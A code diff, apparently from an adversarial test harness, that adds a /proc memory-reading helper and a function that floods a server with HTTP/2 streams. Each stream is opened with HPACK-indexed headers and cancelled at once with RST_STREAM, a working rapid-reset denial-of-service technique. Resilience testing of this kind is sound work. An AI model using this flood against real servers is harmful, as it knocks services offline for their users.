@@ -9,7 +9,14 @@
 #include <sys/socket.h>
 #include <sys/un.h>
 
+#include <algorithm>
+
+#include "absl/strings/numbers.h"
 #include "absl/strings/str_cat.h"
+#include "absl/strings/str_split.h"
+#include "absl/strings/string_view.h"
+#include "absl/strings/strip.h"
+#include "runtime/fs.h"
 
 namespace mycel::adversarial {
 
@@ -127,6 +134,79 @@ bool HeldTls::ClosedWithin(std::chrono::milliseconds timeout) {
     if (err == SSL_ERROR_SSL) return true;
   }
   return false;
+}
+
+int64_t StatusKb(pid_t pid, absl::string_view field) {
+  auto status = ReadFile(absl::StrCat("/proc/", pid, "/status"));
+  if (!status.ok()) return -1;
+  for (absl::string_view line : absl::StrSplit(*status, '\n')) {
+    if (!absl::ConsumePrefix(&line, field) ||
+        !absl::ConsumePrefix(&line, ":")) {
+      continue;
+    }
+    int64_t kb = 0;
+    std::vector<absl::string_view> words =
+        absl::StrSplit(line, absl::ByAnyChar(" \t"), absl::SkipEmpty());
+    if (!words.empty() && absl::SimpleAtoi(words[0], &kb)) return kb;
+  }
+  return -1;
+}
+
+int64_t HeldTls::ResetStreams(const std::string& path, int64_t streams) {
+  SSL* ssl = static_cast<SSL*>(ssl_);
+  // The first stream's header block adds its six fields to the HPACK
+  // dynamic table (RFC 7541 6.2.1, literal with incremental indexing); every
+  // later one names them by index (6.1), six bytes, as a real client's
+  // encoder would: cheap for the server to read, so that it reads faster
+  // than it can finish calls.
+  std::string first;
+  auto field = [&first](absl::string_view name, absl::string_view value) {
+    first.push_back('\x40');
+    first.push_back(static_cast<char>(name.size()));
+    first.append(name.data(), name.size());
+    first.push_back(static_cast<char>(value.size()));
+    first.append(value.data(), value.size());
+  };
+  field(":method", "POST");
+  field(":scheme", "https");
+  field(":path", path);
+  field(":authority", "node");
+  field("content-type", "application/grpc");
+  field("te", "trailers");
+  // The newest entry is index 62: te, content-type, ... :method at 67.
+  const std::string indexed = {'\xc3', '\xc2', '\xc1', '\xc0', '\xbf', '\xbe'};
+  auto frame_header = [](std::string* out, size_t length, uint8_t type,
+                         uint8_t flags, uint32_t stream) {
+    out->push_back(static_cast<char>((length >> 16) & 0xff));
+    out->push_back(static_cast<char>((length >> 8) & 0xff));
+    out->push_back(static_cast<char>(length & 0xff));
+    out->push_back(static_cast<char>(type));
+    out->push_back(static_cast<char>(flags));
+    for (int shift = 24; shift >= 0; shift -= 8) {
+      out->push_back(static_cast<char>((stream >> shift) & 0xff));
+    }
+  };
+  constexpr int kBatch = 256;
+  int64_t sent = 0;
+  uint32_t id = 1;
+  std::string batch;
+  while (sent < streams) {
+    batch.clear();
+    const int64_t n = std::min<int64_t>(kBatch, streams - sent);
+    for (int64_t i = 0; i < n; ++i, id += 2) {
+      const std::string& block = id == 1 ? first : indexed;
+      frame_header(&batch, block.size(), 0x1, 0x4, id);  // HEADERS
+      batch.append(block);
+      frame_header(&batch, 4, 0x3, 0x0, id);  // RST_STREAM
+      batch.append("\0\0\0\x08", 4);          // CANCEL
+    }
+    if (SSL_write(ssl, batch.data(), static_cast<int>(batch.size())) !=
+        static_cast<int>(batch.size())) {
+      break;
+    }
+    sent += n;
+  }
+  return sent;
 }
 
 HeldTls::~HeldTls() {
